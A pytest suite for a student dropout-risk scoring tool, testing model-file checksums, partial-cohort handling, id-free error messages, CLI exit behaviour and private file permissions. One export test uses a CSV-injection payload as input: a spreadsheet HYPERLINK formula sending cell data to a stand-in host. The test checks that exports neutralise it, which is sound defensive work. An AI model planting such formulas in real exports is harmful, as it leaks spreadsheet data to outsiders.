"""Issue 15 "Safe to deploy": the catalogue. One test (or more) per audited item, each with the
exact message or status expected.

1. damaged model files are refused before LightGBM reads them (checksums; fsync on save)
2. a partial intake never silently deletes the rest of its cohort (refuse / merge / replace)
3. no student id in raised messages or captured logs
4. outcomes for a cohort never scored write nothing
5. one `Error:` line, exit code 2, no orphaned Prefect server
6. private runtime files, no live formulas in exports, junk files refused cheaply
"""

from __future__ import annotations

import csv
import json
import logging
import os
import shutil
import stat
import subprocess
import sys
import time
import traceback
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import Engine, create_engine, event, text

from risk_model import jobs, registry, store
from risk_model.config import Settings
from risk_model.demo import make_demo
from risk_model.registry import Registry, RegistryError
from risk_model.schema import ContractError, validate
from risk_model.sources.guard import check_looks_like_table
from tests.conftest import PG_URL, REPO


def _copy_home(trained_home, tmp_path: Path, **kw) -> Settings:
    shutil.copytree(trained_home["settings"].home, tmp_path / "rt")
    settings = Settings(home=tmp_path / "rt", **kw)
    store.upgrade(settings.resolved_store_url)  # the deploy step (`student-risk db upgrade`)
    return settings


def _version_dir(settings: Settings) -> Path:
    reg = Registry(settings.registry_dir)
    return reg.root / "default" / "versions" / reg.champion()


def _ids(trained_home) -> list[str]:
    return trained_home["intake"]["student_id"].astype(str).tolist()


def _no_id_in(textblob: str, ids: list[str]) -> None:
    leaked = [i for i in ids if i in textblob]
    assert not leaked, f"student ids leaked: {leaked[:3]}"


# --- 1. damaged model files --------------------------------------------------------------


@pytest.fixture(scope="module")
def train_result(trained_home):
    """The TrainResult of the session's champion (any trained model will do for saving it again)."""
    return trained_home["result"]


def test_save_records_checksums_and_fsyncs_every_file_and_folder(train_result, demo_config, tmp_path, monkeypatch):
    synced: list[Path] = []
    renamed: list[int] = []
    real_fsync, real_rename = registry._fsync, os.rename
    monkeypatch.setattr(registry, "_fsync", lambda p: (synced.append(Path(p)), real_fsync(p)))
    monkeypatch.setattr(registry.os, "rename", lambda a, b: (renamed.append(len(synced)), real_rename(a, b)))
    reg = Registry(tmp_path / "models")
    version = reg.save(train_result, demo_config)
    folder = reg.root / "default" / "versions" / version
    md = json.loads((folder / "metadata.json").read_text())
    assert md["checksums"] == {n: registry.sha256_file(folder / n) for n in ("model.txt", "reference.parquet")}
    before, after = synced[: renamed[0]], synced[renamed[0] :]
    assert {p.name for p in before if p.parent.name.startswith(".tmp-")} == {
        "model.txt",
        "reference.parquet",
        "metadata.json",
        "model_card.md",
    }
    assert any(p.name.startswith(".tmp-") for p in before)  # the folder itself, before the rename
    assert after == [folder.parent]  # the parent, after the rename
    assert stat.S_IMODE((tmp_path / "models").stat().st_mode) == 0o700


@pytest.mark.parametrize("damage", ["truncated", "empty", "reference"])
def test_damaged_model_files_are_refused_before_lightgbm_reads_them(trained_home, tmp_path, damage):
    settings = _copy_home(trained_home, tmp_path)
    folder = _version_dir(settings)
    target = folder / ("reference.parquet" if damage == "reference" else "model.txt")
    data = target.read_bytes()
    target.write_bytes(b"" if damage == "empty" else data[: len(data) // 2])
    with pytest.raises(RegistryError) as err:
        Registry(settings.registry_dir).load()  # LightGBM would abort this process (SIGABRT)
    msg = str(err.value)
    size = 0 if damage == "empty" else len(data) // 2
    assert msg.startswith(
        f"{target}: damaged ({size} bytes; its sha256 differs from the one recorded when the version was saved: "
        "truncated or changed). Fix: retrain (`student-risk train HISTORY -c SETTINGS --force`), "
    )
    assert folder.name in msg and "(no other version to promote)" in msg


@pytest.mark.slow  # a fresh interpreter loads the model: about 15 s
def test_version_saved_before_checksums_is_checked_in_a_subprocess(trained_home, tmp_path):
    """Decision: such a version is not refused (deployed models keep working after the upgrade); it is
    loaded once in a subprocess, where a damaged model aborts that process, not this one."""
    settings = _copy_home(trained_home, tmp_path)
    folder = _version_dir(settings)
    md = json.loads((folder / "metadata.json").read_text())
    del md["checksums"]
    (folder / "metadata.json").write_text(json.dumps(md))
    assert Registry(settings.registry_dir).load().version == folder.name  # intact: loads
    model = folder / "model.txt"
    model.write_bytes(model.read_bytes()[:5000])
    with pytest.raises(RegistryError) as err:
        Registry(settings.registry_dir).load()
    assert str(err.value).startswith(
        f"{model}: damaged: LightGBM cannot read it (checked in a separate process, exit code "
    )
    assert "the version was saved before checksums existed). Fix: retrain" in str(err.value)


def test_damaged_champion_pointer_and_missing_metadata_say_what_and_how(trained_home, tmp_path):
    settings = _copy_home(trained_home, tmp_path)
    reg = Registry(settings.registry_dir)
    folder = _version_dir(settings)
    pointer = reg.root / "default" / "champion.json"
    pointer.write_text("{not json")
    with pytest.raises(RegistryError) as err:
        reg.load()
    assert str(err.value).startswith(
        f"{pointer}: the champion pointer is damaged (JSONDecodeError: Expecting property name enclosed in double "
    )
    assert "or promote another version: `student-risk promote VERSION --point default --home HOME`" in str(err.value)
    ok, why = reg.promote(folder.name, force=True)  # what `student-risk promote` does: repairs the pointer
    assert ok and why == "no champion yet" and reg.champion() == folder.name
    (folder / "metadata.json").unlink()
    with pytest.raises(RegistryError) as err:
        reg.load()
    assert str(err.value).startswith(
        f"Model version folder {folder} has no metadata.json: the version is incomplete or damaged. Fix: retrain"
    )
    with pytest.raises(RegistryError, match=r"Model version 'nope' not found in .*versions\. Fix: retrain"):
        reg.load("nope")


# --- 2. partial intakes ------------------------------------------------------------------


def _partial(trained_home, n: int = 50, new: int = 0) -> pd.DataFrame:
    part = trained_home["intake"].head(n).copy()
    part["prior_gpa"] = part["prior_gpa"] - 1.0  # worse grades: other probabilities than stored
    if new:
        extra = trained_home["intake"].tail(new).copy()
        extra["student_id"] = [f"NEW{i}" for i in range(new)]
        part = pd.concat([part, extra], ignore_index=True)
    return part


def _stored(settings: Settings) -> pd.DataFrame:
    with store.opened(settings.resolved_store_url) as engine:
        return store.read_scores(engine, "2023", "default").sort_values("student_id").reset_index(drop=True)


@pytest.fixture(params=["sqlite", "postgresql"])
def scored_home(request, trained_home, tmp_path) -> Settings:
    """A copy of the trained home whose store (SQLite or PostgreSQL) holds all 800 students of 2023."""
    if request.param == "sqlite":
        return _copy_home(trained_home, tmp_path)
    settings = _copy_home(trained_home, tmp_path, store_url=request.getfixturevalue("pg_url"))
    jobs.score_and_store(settings, request.getfixturevalue("demo_config"), trained_home["intake"], factors=False)
    return settings


def test_partial_intake_is_refused_by_default_and_writes_nothing(scored_home, demo_config, trained_home):
    before = _stored(scored_home)
    assert len(before) == 800
    with pytest.raises(store.PartialCohortError) as err:
        jobs.score_and_store(scored_home, demo_config, _partial(trained_home), factors=False)
    assert str(err.value) == (
        "Cohort 2023 at prediction point 'default' has 800 students with stored scores; this file has 50 students "
        "(50 of them stored, 0 new), so 750 stored students are not in it. Nothing was written. To update only this "
        'file\'s students and re-rank the whole cohort, score with --merge (partial="merge"); to replace the '
        "cohort's scores with only this file's students (deleting the other stored ones), score with --replace "
        '(partial="replace").'
    )
    pd.testing.assert_frame_equal(before, _stored(scored_home))


def test_partial_intake_merged_reranks_the_whole_cohort(scored_home, demo_config, trained_home):
    before = _stored(scored_home).set_index("student_id")
    out = jobs.score_and_store(scored_home, demo_config, _partial(trained_home, new=2), factors=False, partial="merge")
    assert out["stored"] == [
        "merged 52 students into cohort 2023 (default): 750 other stored students kept, "
        "ranks and tiers recomputed over all 802"
    ]
    assert out["n_students"] == 802 and out["n_scored"] == 52
    after = _stored(scored_home).set_index("student_id")
    assert len(after) == 802 and sorted(after["rank"]) == list(range(1, 803))
    updated = _ids(trained_home)[:50]
    kept = [i for i in before.index if i not in updated]
    pd.testing.assert_series_equal(after.loc[kept, "probability"], before.loc[kept, "probability"])
    assert (after.loc[updated, "probability"] > before.loc[updated, "probability"]).mean() > 0.9
    ordered = after.sort_values("rank")
    assert ordered["probability"].is_monotonic_decreasing  # ranks follow probability over the whole cohort
    assert (ordered["tier"].head(80) == "high").all() and (ordered["tier"] == "high").sum() == round(0.10 * 802)
    assert sum(out["tiers"].values()) == 802
    assert len(pd.read_csv(out["export"])) == 802  # the export is what the store holds


def test_partial_intake_replace_keeps_only_the_file(scored_home, demo_config, trained_home):
    out = jobs.score_and_store(scored_home, demo_config, _partial(trained_home), factors=False, partial="replace")
    assert out["stored"] == [
        "replaced the scores of cohort 2023 (default) with 50 students, 750 stored students not in the file deleted"
    ]
    after = _stored(scored_home)
    assert len(after) == 50 and sorted(after["rank"]) == list(range(1, 51))


def test_failed_merge_leaves_the_store_as_it_was(trained_home, demo_config, tmp_path):
    settings = _copy_home(trained_home, tmp_path)
    before = _stored(settings)
    from risk_model.score import score

    bundle = Registry(settings.registry_dir).load()
    result = score(bundle, _partial(trained_home), demo_config.dataset, demo_config.scoring, factors=False)

    def broken(_frame):
        raise RuntimeError("boom after the delete was planned")

    with pytest.raises(RuntimeError, match="boom"):
        jobs.store_scores(settings, result, partial="merge", rerank=broken)
    pd.testing.assert_frame_equal(before, _stored(settings))


# --- 3. no student ids in messages or logs -----------------------------------------------


def test_store_write_error_names_no_student(trained_home, demo_config, tmp_path, pg_url, caplog):
    settings = _copy_home(trained_home, tmp_path, store_url=pg_url)
    from risk_model.score import score

    bundle = Registry(settings.registry_dir).load()
    result = score(bundle, trained_home["intake"], demo_config.dataset, demo_config.scoring, factors=False)
    dup = pd.concat([result.scores, result.scores.iloc[[7]]], ignore_index=True)  # a collision on one student
    result.scores = dup
    caplog.set_level(logging.DEBUG)
    with pytest.raises(store.StoreError) as err:
        jobs.store_scores(settings, result)
    msg = str(err.value)
    assert msg.startswith(
        f"Score store {store.safe_url(pg_url)} failed (UniqueViolation: duplicate key value violates unique "
        'constraint "uq_scores_cohort_point_student" (SQLSTATE 23505)). Nothing of this step was written'
    )
    assert not err.value.transient
    printed = "".join(traceback.format_exception(err.value))  # what Prefect stores in its run logs
    ids = _ids(trained_home)
    _no_id_in(printed + caplog.text, ids)
    assert "DETAIL" not in printed and "parameters" not in printed


def test_postgres_down_mid_write_is_one_clean_error_and_leaves_old_scores(trained_home, demo_config, tmp_path, pg_url):
    settings = _copy_home(trained_home, tmp_path, store_url=pg_url)
    jobs.score_and_store(settings, demo_config, trained_home["intake"], factors=False)
    before = _stored(settings)
    admin = create_engine(PG_URL)

    def kill_on_insert(conn, cursor, statement, params, context, executemany):
        if statement.startswith("INSERT INTO scores"):
            pid = conn.connection.dbapi_connection.info.backend_pid
            with admin.connect() as a:
                a.execute(text("SELECT pg_terminate_backend(:pid)"), {"pid": pid})

    event.listen(Engine, "before_cursor_execute", kill_on_insert)
    try:
        with pytest.raises(store.StoreError) as err:
            jobs.score_and_store(settings, demo_config, trained_home["intake"], factors=False)
    finally:
        event.remove(Engine, "before_cursor_execute", kill_on_insert)
        admin.dispose()
    assert err.value.transient
    assert str(err.value).startswith(f"Score store {store.safe_url(pg_url)} failed (")
    assert str(err.value).endswith(
        "Nothing of this step was written (its write is one transaction). Check that the database is running and "
        "reachable at that URL (STUDENT_RISK_STORE_URL), then run the step again."
    )
    _no_id_in("".join(traceback.format_exception(err.value)), _ids(trained_home))
    pd.testing.assert_frame_equal(before, _stored(settings))


def test_duplicate_student_error_shows_lines_not_ids(demo_config, small_demo, tmp_path):
    df = pd.concat([small_demo.history, small_demo.history.iloc[[5]]], ignore_index=True)
    with pytest.raises(ContractError) as err:
        validate(df, demo_config.dataset, stage="train", source="h.csv")
    assert str(err.value) == (
        "h.csv: column 'student_id' repeats students within a cohort: line 3202 repeats line 7. "
        "Each student appears once per cohort: remove the duplicate rows."
    )
    _no_id_in(str(err.value), [small_demo.history.student_id.iloc[5]])


def test_unusable_store_url_is_one_store_error():
    with pytest.raises(store.StoreError) as err, store.opened("nosuch://user:secret@db/x"):
        pass
    assert str(err.value) == (
        "Score store URL 'db/x' cannot be used (Can't load plugin: sqlalchemy.dialects:nosuch). Fix "
        "STUDENT_RISK_STORE_URL, e.g. postgresql+psycopg://user@host:5432/db, or unset it to use the SQLite file "
        "in the runtime folder."
    )


# --- 4. outcomes of a cohort never scored ------------------------------------------------


def test_outcomes_for_an_unscored_cohort_write_nothing(trained_home, tmp_path, demo_config):
    settings = _copy_home(trained_home, tmp_path)
    outcomes = make_demo(n_per_cohort=800, n_past=4, seed=1).outcomes.assign(cohort="2031")
    df = validate(outcomes, demo_config.dataset, stage="outcomes", source="o.csv")
    with pytest.raises(store.UnscoredCohortError) as err:
        jobs.record_outcomes(settings, demo_config, df)
    assert str(err.value) == (
        f"Cohort(s) 2031 have no stored scores in {settings.resolved_store_url}: outcomes are recorded for a cohort "
        "that was scored, to compare them with its scores. Nothing was written. Score the cohort first "
        "(`student-risk score INTAKE -c SETTINGS`), or check the file's cohort column (and --cohort) and the store "
        "(--home, STUDENT_RISK_STORE_URL)."
    )
    with store.opened(settings.resolved_store_url) as engine:
        assert len(store.read_outcomes(engine, "2031")) == 0


# --- 5. one Error: line, exit code 2 -----------------------------------------------------


@pytest.fixture(scope="module")
def harness():
    import prefect.main  # noqa: F401  Prefect's console logging set up here, not on a CliRunner stream it outlives
    from prefect.testing.utilities import prefect_test_harness

    with prefect_test_harness(server_startup_timeout=120):
        yield


@pytest.fixture
def cli_home(trained_home, tmp_path):
    settings = _copy_home(trained_home, tmp_path)
    intake = tmp_path / "intake.csv"
    trained_home["intake"].to_csv(intake, index=False)
    return settings, intake


def _cli(args: list[str], env: dict | None = None):
    from typer.testing import CliRunner

    from cli.main import app

    return CliRunner().invoke(app, args, env={"COLUMNS": "1000", **(env or {})})


def _one_error_line(res) -> str:
    lines = [ln for ln in res.output.splitlines() if ln.startswith("Error:")]
    assert res.exit_code == 2, res.output
    assert len(lines) == 1 and "Traceback" not in res.output, res.output
    return lines[0]


CONFIG = str(REPO / "risk_model" / "examples" / "demo.toml")


@pytest.mark.slow
@pytest.mark.parametrize("runner", ["direct", "prefect"])
def test_cli_store_unreachable(request, cli_home, runner):
    """Both ways the CLI runs a job: plain calls, and the Prefect flow when a server is configured."""
    settings, intake = cli_home
    url = "postgresql+psycopg://postgres@127.0.0.1:1/test"
    env = {"STUDENT_RISK_STORE_URL": url}
    if runner == "prefect":
        from prefect.settings import PREFECT_API_URL

        request.getfixturevalue("harness")
        env["PREFECT_API_URL"] = PREFECT_API_URL.value()
    res = _cli(["score", str(intake), "-c", CONFIG, "--home", str(settings.home)], env)
    line = _one_error_line(res)
    assert line.startswith(f"Error: Score store {url} failed (OperationalError: ")
    assert line.endswith(
        "Check that the database is running and reachable at that URL (STUDENT_RISK_STORE_URL), then run the step again."
    )


@pytest.mark.slow
@pytest.mark.parametrize("damage", ["empty_model", "champion_not_json", "no_metadata"])
def test_cli_damaged_registry(cli_home, damage):
    settings, intake = cli_home
    folder = _version_dir(settings)
    expected = {
        "empty_model": f"Error: {folder / 'model.txt'}: damaged (0 bytes; its sha256 differs",
        "champion_not_json": f"Error: {folder.parents[1] / 'champion.json'}: the champion pointer is damaged "
        "(JSONDecodeError: Expecting value: line 1 column 1 (char 0)). Fix: retrain",
        "no_metadata": f"Error: Model version folder {folder} has no metadata.json: the version is incomplete",
    }[damage]
    if damage == "empty_model":
        (folder / "model.txt").write_bytes(b"")
    elif damage == "champion_not_json":
        (folder.parents[1] / "champion.json").write_text("")
    else:
        (folder / "metadata.json").unlink()
    res = _cli(["score", str(intake), "-c", CONFIG, "--home", str(settings.home)])
    assert _one_error_line(res).startswith(expected)


@pytest.mark.slow
def test_cli_partial_intake_refused_then_merged(cli_home, trained_home, tmp_path):
    settings, _ = cli_home
    part = tmp_path / "part.csv"
    _partial(trained_home).to_csv(part, index=False)
    args = ["score", str(part), "-c", CONFIG, "--home", str(settings.home), "--no-factors"]
    line = _one_error_line(_cli(args))
    assert line.startswith("Error: Cohort 2023 at prediction point 'default' has 800 students with stored scores")
    assert len(_stored(settings)) == 800
    res = _cli([*args, "--merge"])
    assert res.exit_code == 0, res.output
    assert (
        "stored:   merged 50 students into cohort 2023 (default): 750 other stored students kept, "
        "ranks and tiers recomputed over all 800" in res.output
    )
    assert _one_error_line(_cli([*args, "--merge", "--replace"])) == (
        "Error: --merge and --replace exclude each other: choose one."
    )


@pytest.mark.slow
def test_cli_outcomes_for_unscored_cohort(cli_home, tmp_path):
    settings, _ = cli_home
    path = tmp_path / "outcomes.csv"
    make_demo(n_per_cohort=50, n_past=1, seed=2).outcomes.assign(cohort="2031").to_csv(path, index=False)
    line = _one_error_line(_cli(["outcomes", str(path), "-c", CONFIG, "--home", str(settings.home)]))
    assert line.startswith("Error: Cohort(s) 2031 have no stored scores in sqlite:///")


def test_cli_promote_repairs_a_damaged_champion_pointer(cli_home):
    settings, _ = cli_home
    folder = _version_dir(settings)
    (folder.parents[1] / "champion.json").write_text("")
    res = _cli(["promote", folder.name, "--home", str(settings.home)])
    assert (
        res.exit_code == 0
        and res.output.strip() == f"{folder.name} is now champion of point default (no champion yet)."
    )
    assert _one_error_line(_cli(["promote", "nope", "--home", str(settings.home)])).startswith(
        "Error: Model version 'nope' not found in "
    )


def _processes_with(marker: str) -> list[int]:
    found = []
    for p in Path("/proc").iterdir():
        if p.name.isdigit():
            try:
                if marker.encode() in (p / "environ").read_bytes():
                    found.append(int(p.name))
            except OSError:
                continue
    return found


@pytest.mark.slow
def test_cli_truncated_model_in_a_real_process_exits_2_and_leaves_no_server(cli_home, tmp_path):
    """As a user runs it: LightGBM used to abort (exit 134, ~85 Fatal lines) and orphan Prefect's server.
    (Without PREFECT_API_URL the CLI now runs the steps directly; no Prefect process may be left either way.)"""
    settings, intake = cli_home
    model = _version_dir(settings) / "model.txt"
    model.write_bytes(model.read_bytes()[: model.stat().st_size // 2])
    prefect_home = tmp_path / "prefect-home"
    env = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_API")}
    env.update(PREFECT_HOME=str(prefect_home), PREFECT_SERVER_ANALYTICS_ENABLED="false", DO_NOT_TRACK="1")
    cmd = [str(Path(sys.executable).with_name("student-risk")), "score", str(intake), "-c", CONFIG]
    proc = subprocess.run([*cmd, "--home", str(settings.home)], env=env, capture_output=True, text=True, timeout=600)
    assert proc.returncode == 2, proc.stderr[-3000:]
    errors = [ln for ln in proc.stderr.splitlines() if ln.startswith("Error:")]
    assert errors == [errors[0]] and errors[0].startswith(f"Error: {model}: damaged (")
    assert "[LightGBM] [Fatal]" not in proc.stderr + proc.stdout and "Traceback" not in proc.stderr
    deadline = time.time() + 20
    while _processes_with(f"PREFECT_HOME={prefect_home}") and time.time() < deadline:
        time.sleep(0.5)
    assert _processes_with(f"PREFECT_HOME={prefect_home}") == []  # no orphaned temporary server


# --- 6. private files, CSV injection, junk files -----------------------------------------


def test_store_and_exports_are_private_whatever_the_umask(tmp_path):
    old = os.umask(0o022)
    try:
        home = tmp_path / "fresh" / "runtime"
        store.upgrade(f"sqlite:///{home / 'scores.db'}")
        engine = store.connect(f"sqlite:///{home / 'scores.db'}")
        store.write_scores(engine, _frame(["S1", "S2"]), {})
        engine.dispose()
        from risk_model.private import private_dir

        export = private_dir(home / "exports") / "x.csv"
        store.export_csv(_frame(["S1"]), export)
    finally:
        os.umask(old)
    modes = {p.name: stat.S_IMODE(p.stat().st_mode) for p in [tmp_path / "fresh", home, home / "exports"]}
    assert modes == {"fresh": 0o700, "runtime": 0o700, "exports": 0o700}
    files = [home / "scores.db", export, *home.glob("scores.db-*"), *home.glob("*.migrate-lock")]
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in files} == {p.name: 0o600 for p in files}


def _frame(ids: list[str]) -> pd.DataFrame:
    n = len(ids)
    return pd.DataFrame(
        {
            "cohort": "2024",
            "point": "default",
            "student_id": ids,
            "probability": [0.9 - i / (n + 1) for i in range(n)],
            "tier": "high",
            "rank": range(1, n + 1),
            "factors": [[{"feature": "prior_gpa", "direction": "raises", "contribution": 0.2, "value": 1.0}]] * n,
            "model_version": "v1",
            "scored_at": pd.Timestamp("2026-09-01 10:00", tz="UTC"),
        }
    )


def test_export_neutralises_formula_cells(tmp_path):
    ids = ['=HYPERLINK("http://x.example/?d="&A1,"click")', "+1", "-2", "@SUM(A1)", "\tTAB", "\rCR", "S-7"]
    path = tmp_path / "x.csv"
    store.export_csv(_frame(ids), path)
    with open(path, newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["student_id"] for r in rows] == ["'" + i for i in ids[:-1]] + ["S-7"]
    assert rows[0]["probability"] == "0.9" and rows[0]["factor_1"] == "prior_gpa (raises risk)"


def test_junk_files_are_refused_from_their_first_block(tmp_path, demo_config, small_demo):
    sparse = tmp_path / "big.csv"
    with open(sparse, "wb") as fh:
        fh.truncate(1 << 30)  # 1 GB of NUL bytes (sparse: no disk used); only 256 KiB is read
    with pytest.raises(ContractError) as err:
        check_looks_like_table(sparse)
    assert str(err.value) == (
        f"{sparse}: a binary file, not a table (it contains NUL bytes). Export the table again as CSV "
        "(a header row, then one student per line) or as Parquet."
    )
    line = tmp_path / "line.csv"
    line.write_text("a" * (3 << 20))
    with pytest.raises(ContractError, match=r"no header line in its first 256 KiB \(one endless line\): not a table"):
        check_looks_like_table(line)
    prose = tmp_path / "prose.csv"
    prose.write_text("Dear colleague\nplease find attached\n" * 1000)
    with pytest.raises(ContractError, match="the first line has no column delimiter"):
        check_looks_like_table(prose)
    ragged = tmp_path / "ragged.csv"
    ragged.write_text("a,b,c\n" + "1,2,3,4,5\n" * 50)
    with pytest.raises(ContractError, match=r"50 of the first 50 lines do not have the header's 3 fields"):
        check_looks_like_table(ragged)
    good = tmp_path / "intake.csv"
    small_demo.intake.to_csv(good, index=False)
    check_looks_like_table(good)  # a real table passes
    junk = tmp_path / "junk.csv"
    junk.write_bytes(os.urandom(1 << 20))
    with pytest.raises(ContractError, match="not a table"):
        jobs.prepare(demo_config, junk, stage="score")  # the job step checks before pandas reads anything
